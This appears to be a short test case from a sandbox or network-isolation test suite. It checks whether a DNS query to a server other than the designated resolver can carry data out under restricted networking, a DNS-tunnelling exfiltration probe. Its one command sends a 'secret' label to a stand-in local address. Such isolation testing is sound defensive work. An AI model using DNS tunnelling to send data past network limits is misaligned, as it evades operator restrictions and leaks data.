# what: with the network limited, ask a DNS server that is not the cell's resolver (dig @SERVER), where a query is itself a datagram out (DNS tunnelling)
# flags: --connect 443
al-attack dns-ask 127.0.0.9 secret.test
